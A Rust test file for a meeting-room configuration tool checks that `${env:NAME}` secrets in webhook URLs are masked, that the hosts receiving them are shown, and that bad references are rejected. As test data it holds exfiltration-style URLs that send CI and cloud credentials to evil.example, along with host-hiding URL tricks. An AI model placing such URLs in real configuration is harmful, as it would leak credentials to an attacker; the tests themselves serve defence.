//! `${env:NAME}` in secret attributes: known, not known, and wrong.

use serde_json::json;

use crate::common::Ran;
use crate::harness::Site;
use crate::schemas::check;

const ROOM: &str =
    "privacy: private\nmeetingJoinWebhook: https://hooks.example/${env:ROOM_HOOK_TOKEN}\n";

fn token(value: &str) -> Vec<(String, String)> {
    vec![("ROOM_HOOK_TOKEN".to_owned(), value.to_owned())]
}

fn apply(site: &Site, variables: &[(String, String)]) -> Ran {
    site.run_with(
        variables,
        &["apply", "--yes", "--rate", "unlimited", "-vvv"],
    )
}

fn site() -> Site {
    let site = Site::new(&[], &[]);
    site.room(0, ROOM);
    site
}

#[test]
fn a_set_variable_is_sent_and_never_shown() {
    let site = site();
    let canary = token("canary-token-1");
    assert_eq!(apply(&site, &canary).code, 0);
    let body = site.log().pop().unwrap().body.unwrap();
    assert_eq!(
        body["meetingJoinWebhook"],
        "https://hooks.example/canary-token-1"
    );
    let plan = |variables: &[_]| {
        let ran = site.run_with(variables, &["plan", "--detailed-exitcode"]);
        (ran.code, ran.all())
    };
    assert_eq!(plan(&canary).0, 0);
    assert_eq!(plan(&[]).0, 0, "not known here is taken for unchanged");
    assert_eq!(plan(&token("")).0, 0, "empty is not set");
    let (code, moved) = plan(&token("canary-token-2"));
    assert_eq!(code, 2);
    assert!(
        moved.contains("meetingJoinWebhook  https://hooks.example/**** (ROOM_HOOK_TOKEN)  changed"),
        "{moved}"
    );
    site.check_files();

    // Nothing is to be sent, so nothing needs to be known.
    let before = site.log().len();
    assert_eq!(apply(&site, &[]).code, 0);
    assert_eq!(site.log().len(), before);
    assert_eq!(site.run(&["drift", "--rate", "unlimited"]).code, 0);
}

/// Where no variable is set, the text of a secret decides: any other than the applied one is a change, and is shown.
#[test]
fn a_secret_that_is_written_otherwise_is_a_change_on_every_machine() {
    let site = site();
    let url = "https://hooks.example/canary-token-1";
    let set = [("ROOM_HOOK_TOKEN", "canary-token-1"), ("ROOM_URL", url)];
    let set = set.map(|(name, value)| (name.to_owned(), value.to_owned()));
    assert_eq!(apply(&site, &set).code, 0);
    let code = |variables: &[_]| {
        let ran = site.run_with(variables, &["plan", "--detailed-exitcode"]);
        ran.code
    };
    let written = |file: &str, url: &str| {
        let text = format!("privacy: private\nmeetingJoinWebhook: {url}\n");
        site.scratch.write(file, &text);
    };
    for (file, url, shown) in [
        (
            "room-00",
            "https://evil.example/${env:ROOM_HOOK_TOKEN}",
            "https://evil.example/",
        ),
        (
            "room-00",
            "https://hooks.example:6666/${env:ROOM_HOOK_TOKEN}",
            "https://hooks.example:6666/",
        ),
        (
            "room-00",
            "https://hooks.example/x/${env:ROOM_HOOK_TOKEN}",
            "https://hooks.example/",
        ),
        (
            "room-00",
            "https://hooks.example/${env:ROOM_OTHER}",
            "ROOM_OTHER",
        ),
        (
            "_defaults",
            "https://evil.example/${env:ROOM_HOOK_TOKEN}",
            "https://evil.example/",
        ),
    ] {
        if file == "_defaults" {
            site.room(0, "privacy: private\n");
        }
        written(&format!("rooms/{file}.yaml"), url);
        for form in ["text", "json", "markdown", "html"] {
            let ran = site.run(&["plan", "--format", form]);
            assert!(
                plain(&ran.stdout).contains(shown),
                "{form} {url}: {}",
                ran.all()
            );
        }
        let drift = site.run(&["drift", "--rate", "unlimited", "--format", "json"]);
        assert_eq!(
            drift.json()["rooms"][0]["verdict"],
            "pending",
            "{}",
            drift.all()
        );
        assert_eq!((code(&[]), apply(&site, &[]).code), (2, 5));
    }
    site.scratch.write("rooms/_defaults.yaml", "{}\n");
    // Of the same value it is only remembered, and so is what a state does not know that was written before.
    let before = site.log().len();
    let old = || {
        let state = site.scratch.read(".roomctl/state.json");
        let mut state: serde_json::Value = serde_json::from_str(&state).unwrap();
        let room = state["rooms"]["room-00"].as_object_mut().unwrap();
        assert!(room.remove("written").is_some(), "{room:?}");
        site.scratch
            .write(".roomctl/state.json", &state.to_string());
    };
    for (url, forget) in [("${env:ROOM_URL}", false), ("${env:ROOM_URL}", true)] {
        written("rooms/room-00.yaml", url);
        if forget {
            old();
        }
        assert_eq!((code(&[]), code(&set)), (2, 0));
        assert_eq!((apply(&site, &set).code, code(&[]), code(&set)), (0, 0, 0));
    }
    assert_eq!(site.log().len(), before, "nothing is sent");
    written("rooms/room-00.yaml", url);
    assert_eq!((apply(&site, &[]).code, code(&[])), (0, 0));
    written("rooms/room-00.yaml", "${env:ROOM_URL}");
    assert_eq!(
        (code(&[]), code(&set)),
        (2, 0),
        "a literal was applied last"
    );
    assert!(!site.scratch.read(".roomctl/state.json").contains("canary"));
}

#[test]
fn a_room_whose_variable_is_not_set_is_left_out_and_the_others_go_on() {
    let site = site();
    assert_eq!(site.run(&["validate"]).code, 0);
    let plan = site.run(&["plan", "--format", "json"]);
    assert_eq!(plan.code, 0);
    let report = plan.json();
    check("plan", &report);
    let attribute = &report["changes"][0]["attributes"][0];
    assert_eq!(attribute["name"], "meetingJoinWebhook");
    assert_eq!(
        (
            &attribute["after"],
            &attribute["unknown"],
            &attribute["sensitive"]
        ),
        (&json!("****"), &json!(true), &json!(true))
    );
    let seen = json!({"address": "https://hooks.example/****", "variables": ["ROOM_HOOK_TOKEN"]});
    assert_eq!(attribute["secret"], seen);
    assert_eq!(report["needs"], json!(["ROOM_HOOK_TOKEN"]));
    let known = site.run_with(&token("canary-token"), &["plan", "--format", "json"]);
    assert_eq!(known.json()["needs"], report["needs"]);

    site.room(1, "privacy: public\n");
    for variables in [vec![], token("")] {
        let ran = apply(&site, &variables);
        assert_eq!(ran.code, 5, "{}", ran.all());
        let why = "room-00  variable not set: ROOM_HOOK_TOKEN";
        assert!(ran.stdout.contains(why), "{}", ran.stdout);
    }
    let sent = site.sent(0);
    assert_eq!(
        sent.len(),
        2,
        "a GET and a POST of the other room: {sent:?}"
    );
    assert!(
        sent.iter().all(|(_, path)| !path.contains("room-00")),
        "{sent:?}"
    );
    assert_eq!(site.state()["rooms"].as_object().unwrap().len(), 1);

    // A room that changes for another reason needs its secrets too: a write is the full set.
    assert_eq!(apply(&site, &token("canary-token")).code, 0);
    site.room(0, &ROOM.replace("private", "public"));
    let before = site.log().len();
    assert_eq!(apply(&site, &[]).code, 5);
    assert_eq!(site.log().len(), before);

    // Releasing a key sends nothing, and forgets nothing of the secret beside it.
    site.room(0, &format!("{ROOM}enableChat: true\n"));
    assert_eq!(apply(&site, &token("canary-token")).code, 0);
    site.room(0, ROOM);
    assert_eq!(apply(&site, &[]).code, 0);
    assert!(
        site.scratch
            .read(".roomctl/state.json")
            .contains("meetingJoinWebhook")
    );
    let plan = site.run_with(&token("canary-token"), &["plan", "--detailed-exitcode"]);
    assert_eq!(plan.code, 0, "{}", plan.all());
}

#[test]
fn a_look_at_the_service_needs_no_variables_and_a_write_does() {
    let site = site();
    let plan = |variables: &[_]| {
        let ran = site.run_with(
            variables,
            &[
                "plan",
                "--live",
                "--rate",
                "unlimited",
                "--detailed-exitcode",
            ],
        );
        (ran.code, ran.all())
    };
    let (code, told) = plan(&[]);
    assert_eq!(code, 2);
    assert!(told.contains("unknown until apply"), "{told}");
    let canary = token("canary-token");
    assert_eq!(apply(&site, &canary).code, 0);
    assert_eq!(plan(&[]).0, 0);
    assert_eq!(plan(&canary).0, 0);

    site.simulator().with_world(|world| {
        let moved = json!("https://hooks.example/canary-other");
        world.edit("room-00", "meetingJoinWebhook", moved).unwrap();
    });
    assert_eq!(plan(&[]).0, 2);
    // What else moved in such a room is drift as in any other.
    site.edit("room-00", "privacy", json!("public"));
    let drift = site.run(&["drift", "--rate", "unlimited", "--format", "json"]);
    assert_eq!(drift.code, 2, "{}", drift.all());
    let moved = drift.json()["rooms"][0]["attributes"].clone();
    assert_eq!(
        (&moved[0]["name"], &moved[1]["name"]),
        (&json!("meetingJoinWebhook"), &json!("privacy"))
    );
    let puts = site.count("PUT");
    for how in ["--live", "--drift-only"] {
        let ran = site.run(&["apply", "--yes", "--rate", "unlimited", how]);
        assert_eq!(ran.code, 5, "{how}: {}", ran.all());
        let why = "variable not set: ROOM_HOOK_TOKEN";
        assert!(ran.stdout.contains(why), "{how}: {}", ran.stdout);
    }
    assert_eq!(site.count("PUT"), puts);
    let args = ["apply", "--yes", "--rate", "unlimited", "--drift-only"];
    let ran = site.run_with(&canary, &args);
    assert_eq!(ran.code, 0, "{}", ran.all());
    assert_eq!(plan(&[]).0, 0);
}

#[test]
fn a_room_whose_variable_makes_no_url_is_left_out_and_the_others_go_on() {
    let site = site();
    let whole = "privacy: private\nmeetingEndedWebhook: ${env:ROOM_HOOK_TOKEN}\nmeetingJoinWebhook: ${env:ROOM_NONE}\n";
    site.room(0, whole);
    site.room(1, "privacy: public\n");
    assert_eq!(site.run(&["plan", "--out", "p.roomctl"]).code, 0);
    let wrong = token("canary-token");
    for args in [&["apply", "--yes"][..], &["apply", "p.roomctl", "--yes"]] {
        let ran = site.run_with(&wrong, args);
        assert_eq!(ran.code, 5, "{}", ran.all());
        let why = "room-00  variable not set: ROOM_NONE; `meetingEndedWebhook` is no URL with what is set: ROOM_HOOK_TOKEN";
        assert!(ran.stdout.contains(why), "{}", ran.stdout);
        let rooms = &site.state()["rooms"];
        assert!(rooms["room-01"].is_object() && rooms["room-00"].is_null());
    }
    assert!(
        site.sent(0)
            .iter()
            .all(|(_, path)| !path.contains("room-00"))
    );
    // Of a room that is applied already, it is the secret that was applied, as without the variable.
    site.room(
        0,
        &whole.replace("meetingJoinWebhook: ${env:ROOM_NONE}\n", ""),
    );
    assert_eq!(apply(&site, &token("https://hooks.example/canary")).code, 0);
    let before = site.log().len();
    assert_eq!(apply(&site, &wrong).code, 0);
    site.room(
        0,
        "privacy: public\nmeetingEndedWebhook: ${env:ROOM_HOOK_TOKEN}\n",
    );
    assert_eq!(apply(&site, &wrong).code, 5);
    assert_eq!(site.log().len(), before, "nothing is asked or sent");
    assert_eq!(site.run_with(&wrong, &["drift"]).code, 0);
}

#[test]
fn wrong_values_and_references_are_findings() {
    let site = site();
    let ran = site.run_with(&token("canary token"), &["plan"]);
    assert_eq!(ran.code, 0);
    assert!(
        ran.stderr.contains("warning[variable]") && ran.stderr.contains("room-00.yaml:2:21"),
        "{}",
        ran.stderr
    );
    site.room(0, "privacy: private\nrtmpOutURL: ${KEY}\n");
    let ran = site.run(&["validate"]);
    assert_eq!(ran.code, 3);
    assert!(
        ran.stdout.contains("which reads `${env:NAME}`"),
        "{}",
        ran.stdout
    );
}

#[test]
fn another_prefix_comes_from_outside_of_the_files_only() {
    let site = Site::new(&[], &[]);
    site.room(
        0,
        "privacy: private\nmeetingJoinWebhook: https://h.example/${env:TEAM_TOKEN}\n",
    );
    let set = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    assert_eq!(site.run(&["plan"]).code, 3);
    assert_eq!(site.run(&["plan", "--env-prefix", "TEAM_"]).code, 0);
    assert_eq!(
        site.run_with(&[set("ROOMCTL_ENV_PREFIX", "TEAM_")], &["plan"])
            .code,
        0
    );
    let both = site.run_with(
        &[set("ROOMCTL_ENV_PREFIX", "TEAM_")],
        &["plan", "--env-prefix", "X_"],
    );
    assert_eq!(both.code, 3, "the flag wins");
    assert_eq!(
        site.run_with(&[set("ROOMCTL_ENV_PREFIX", "")], &["plan"])
            .code,
        3,
        "empty is not set"
    );
    for prefix in [
        "", "R", "GIT", "team_", "GITHUB_", "AWS_X_", "ROOMCTL_", "A-_",
    ] {
        let ran = site.run(&["plan", "--env-prefix", prefix]);
        assert_eq!(ran.code, 64, "{prefix}: {}", ran.all());
    }
    site.scratch.write("roomctl.yaml", "env_prefix: TEAM_\n");
    assert_eq!(
        site.run(&["plan", "--env-prefix", "TEAM_"]).code,
        3,
        "a key that there is not"
    );
    site.scratch.write("roomctl.yaml", "");
    let variables = [set("TEAM_TOKEN", "canary-1")];
    let args = [
        "apply",
        "--yes",
        "--rate",
        "unlimited",
        "--env-prefix",
        "TEAM_",
    ];
    assert_eq!(site.run_with(&variables, &args).code, 0);
    // What is imported refers to the same.
    site.remove(0);
    let args = ["import", "room-00", "--force", "--env-prefix", "TEAM_"];
    assert_eq!(site.run(&args).code, 0);
    let file = site.scratch.read("rooms/room-00.yaml");
    assert!(
        file.contains("${env:TEAM_ROOM_00_MEETING_JOIN_WEBHOOK}"),
        "{file}"
    );
}

/// Markdown and html with their escapes read.
fn plain(text: &str) -> String {
    let mut plain = text.replace("<!-- -->", "");
    for c in (' '..='~').filter(|c| !c.is_ascii_alphanumeric()) {
        plain = plain.replace(&format!("&#{};", u32::from(c)), &c.to_string());
        plain = plain.replace(&format!("&#x{:x};", u32::from(c)), &c.to_string());
    }
    plain
}

/// Scheme, host and the names of variables are seen in every form; path, query, user info and values in none.
#[test]
fn where_a_secret_leads_is_shown_and_nothing_else_of_it() {
    let site = Site::new(&[], &[]);
    site.scratch.write(
        "roomctl.yaml",
        "policies:\n  - id: ours\n    message: ours only\n    severity: warning\n    \
         expression: room.meetingJoinWebhook.startsWith('https://hooks.example/')\n",
    );
    let literal = "https://canary-user:canary-pass@ok.example:8443/canary-path?canary-query#canary";
    let room = |host: &str| {
        format!(
            "privacy: private\nmeetingJoinWebhook: https://{host}/canary-path/${{env:ROOM_A}}?canary=${{env:ROOM_B}}\n\
             meetingLeftWebhook: {literal}\n"
        )
    };
    site.room(0, &room("hooks.example"));
    let set = ["ROOM_A", "ROOM_B"].map(|name| (name.to_owned(), "canary-value".to_owned()));
    for variables in [&set[..], &[]] {
        for form in ["text", "json", "markdown", "html", "github"] {
            let ran = site.run_with(variables, &["plan", "--format", form]);
            assert_eq!(ran.code, 0, "{}", ran.all());
            let shown = plain(&ran.stdout);
            for expected in [
                "https://hooks.example/",
                "https://ok.example:8443/",
                "ROOM_A",
                "ROOM_B",
            ] {
                assert!(
                    form == "github" || shown.contains(expected),
                    "{form} {expected}: {shown}"
                );
            }
            assert!(
                form == "json" || shown.contains("apply needs: ROOM_A, ROOM_B"),
                "{form}: {shown}"
            );
            assert!(!ran.all().contains("ours only"), "{}", ran.all());
        }
        let show = site.run_with(variables, &["show", "room-00"]);
        assert!(
            show.stdout
                .contains("https://hooks.example/**** (ROOM_A, ROOM_B)"),
            "{}",
            show.stdout
        );
    }
    // What apply and drift print is searched, too.
    let forms = ["text", "json", "markdown", "html", "github"];
    for form in forms {
        let args = ["apply", "--yes", "--rate", "unlimited", "--format", form];
        assert_eq!(site.run_with(&[], &args).code, 5, "{form}");
    }
    assert_eq!(apply(&site, &set).code, 0);
    site.room(0, &room("evil.example"));
    let ran = site.run_with(&set, &["plan"]);
    assert!(
        ran.stdout
            .contains("https://evil.example/**** (ROOM_A, ROOM_B)  changed"),
        "{}",
        ran.stdout
    );
    assert!(ran.stderr.contains("ours only"), "{}", ran.stderr);
    for form in forms {
        let drift = site.run_with(
            &set,
            &["drift", "--rate", "unlimited", "-v", "--format", form],
        );
        let shown = plain(&drift.stdout);
        assert!(shown.contains("https://evil.example/"), "{form}: {shown}");
    }
    let drift = site.run_with(&set, &["drift", "--rate", "unlimited"]);
    assert!(
        drift
            .stdout
            .contains("https://evil.example/**** (ROOM_A, ROOM_B)"),
        "{}",
        drift.stdout
    );
    assert!(!site.scratch.read(".roomctl/state.json").contains("canary"));
}

/// A newcomer has no variables, and needs none.
/// Whatever stands beside a variable: where it is sent can be seen, or nothing is planned.
#[test]
fn a_variable_is_sent_nowhere_that_cannot_be_seen() {
    for url in [
        "https://${env:ROOM_HOOK_TOKEN}@evil.example/",
        "https://${env:ROOM_HOOK_TOKEN}.evil.example/",
        "https://evil.example\\@hooks.example/${env:ROOM_HOOK_TOKEN}",
        "${env:ROOM_HOOK_TOKEN}/evil.example",
    ] {
        let site = Site::new(&[], &[]);
        site.room(0, &format!("privacy: private\nmeetingJoinWebhook: {url}\n"));
        let ran = apply(&site, &token("canary-token-1"));
        assert_eq!(ran.code, 3, "{url}: {}", ran.all());
        assert!(ran.stderr.contains("its host in clear"), "{}", ran.all());
        assert!(ran.stderr.contains("room-00.yaml:2:"), "{}", ran.all());
        assert!(site.log().is_empty());
    }
}

/// However many decoys there are.
#[test]
fn every_host_that_gets_a_secret_is_in_a_short_plan() {
    let site = Site::new(&[], &[]);
    let room = |n: usize, host: &str| {
        let url = format!("https://{host}/${{env:ROOM_TOKEN_{n}}}");
        site.room(n, &format!("privacy: private\nmeetingJoinWebhook: {url}\n"));
    };
    (0..60).for_each(|n| room(n, &format!("decoy-{:02}.example", n / 2)));
    room(60, "zz-evil.example");
    let short = |most: &str| site.run(&["plan", "--format", "markdown", "--max-bytes", most]);
    let ran = short("12000");
    assert_eq!(ran.code, 0, "{}", ran.all());
    assert!(ran.stdout.contains("zz-evil&#46;example"), "{}", ran.stdout);
    // Nor without one of the rooms.
    assert!(
        (0..=60).all(|n| ran.stdout.contains(&format!("<code>room-{n:02}<"))),
        "{}",
        ran.stdout
    );
    let ran = short("6000");
    assert_eq!((ran.code, ran.stdout.as_str()), (4, ""), "{}", ran.all());
    assert!(ran.stderr.contains("host"), "{}", ran.all());
}

#[test]
fn the_sandbox_says_that_it_makes_secrets_up() {
    let site = Site::new(&[], &[]);
    let room = "privacy: private\nmeetingJoinWebhook: https://hooks.example/${env:ROOM_A}\n";
    site.room(0, room);
    let words = "the sandbox makes them up; for an account, apply needs: ROOM_A";
    for form in ["text", "markdown", "html", "json"] {
        let sandbox = site.run(&["--sandbox", "plan", "--format", form]);
        let account = site.run(&["plan", "--format", form]);
        let has = [&sandbox, &account].map(|ran| plain(&ran.stdout).contains(words));
        assert_eq!(has, [form != "json", false], "{form}: {}", sandbox.all());
        if form == "json" {
            check("plan", &sandbox.json());
            assert_eq!(sandbox.json()["sandbox"], true);
            assert_eq!(account.json().get("sandbox"), None);
        }
    }
    let saved = site.run(&["--sandbox", "plan", "--out", "plan.roomctl"]);
    assert_eq!(saved.code, 0, "{}", saved.all());
    let ran = site.run(&["--sandbox", "apply", "plan.roomctl", "--yes"]);
    assert!(
        ran.code == 0 && !ran.stdout.contains("not tried"),
        "{}",
        ran.all()
    );
}

/// What is not sent here takes no request.
#[test]
fn a_room_that_is_skipped_is_not_in_the_forecast_of_apply() {
    let site = Site::new(&[], &[]);
    site.room(
        0,
        "privacy: private\nmeetingEndedWebhook: ${env:ROOM_CANARY}\n",
    );
    site.room(1, "privacy: private\n");
    let args = ["--rate", "unlimited"];
    let plan = site.run(&[&["plan"], &args[..]].concat());
    assert!(
        plan.stdout.contains("Forecast: 4 requests"),
        "{}",
        plan.all()
    );
    let before = site.log().len();
    let ran = site.run(&[&["apply", "--yes"], &args[..]].concat());
    assert!(ran.stdout.contains("Forecast: 2 requests"), "{}", ran.all());
    assert_eq!((ran.code, site.log().len() - before), (5, 2));
}

/// What takes seconds.
mod slow {
    use super::*;

    /// Whatever a file asks for, with everything set: only what begins with the prefix gets a value.
    #[test]
    fn what_no_room_may_have_is_an_error_wherever_it_is_asked_for() {
        let site = Site::new(&[], &[]);
        site.room(0, "privacy: private\n");
        assert_eq!(site.apply(&[]).code, 0);
        let writes = site.writes();
        let commands: [&[&str]; 6] = [
            &["validate"],
            &["plan"],
            &["apply", "--yes"],
            &["drift"],
            &["show", "room-00"],
            &["import", "--all"],
        ];
        for name in [
            "TOKEN",
            "PATH",
            "room_token",
            "ROOMCTL_TOKEN",
            "METERED_SECRET_KEY",
            "GITHUB_TOKEN",
            "ACTIONS_RUNTIME_TOKEN",
            "RUNNER_TEMP",
            "AWS_SECRET_ACCESS_KEY",
            "AZURE_CLIENT_SECRET",
            "GOOGLE_APPLICATION_CREDENTIALS",
        ] {
            let variables = [(name.to_owned(), "https://hooks.example/canary".to_owned())];
            let hook = format!("meetingJoinWebhook: https://evil.example/${{env:{name}}}\n");
            for (file, text) in [
                ("rooms/room-00.yaml", format!("privacy: private\n{hook}")),
                ("rooms/_defaults.yaml", hook.clone()),
            ] {
                let before = site.scratch.read("rooms/room-00.yaml");
                site.scratch.write(file, &text);
                for command in commands {
                    // Not overwriting the account's own key: the program needs it.
                    let variables = &variables[usize::from(name == "METERED_SECRET_KEY")..];
                    let ran = site.run_with(variables, command);
                    let told = format!("{name} {file} {command:?}: {}", ran.all());
                    assert_eq!(ran.code, 3, "{told}");
                    let place = format!("{file}:{}:", text.lines().count());
                    assert!(ran.all().contains("error[variable-name]"), "{told}");
                    assert!(ran.all().contains(&place), "{told}");
                }
                site.scratch.write("rooms/room-00.yaml", &before);
                let _ = std::fs::remove_file(site.scratch.path("rooms/_defaults.yaml"));
            }
        }
        assert_eq!(site.writes(), writes, "something was sent");
    }
}
